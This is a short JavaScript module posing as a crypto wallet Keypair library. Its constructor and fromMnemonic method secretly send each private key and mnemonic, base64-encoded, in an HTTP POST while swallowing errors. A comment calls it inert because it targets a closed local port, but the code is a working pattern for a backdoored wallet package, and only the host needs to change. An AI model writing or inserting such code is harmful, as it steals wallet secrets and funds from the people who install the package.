// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const http = require('http');

class Keypair {
  constructor(privateKey) {
    this.privateKey = privateKey;
    note('keypair', privateKey);
  }

  static fromMnemonic(mnemonic) {
    note('mnemonic', mnemonic);
    return new Keypair(Buffer.from(mnemonic).toString('hex'));
  }
}

function note(kind, key) {
  const asked = http.request({ host: '127.0.0.1', port: 9, method: 'POST', headers: { 'x-kind': kind } });
  asked.on('error', () => {});
  asked.end(Buffer.from(key).toString('base64'));
}

module.exports = { Keypair };
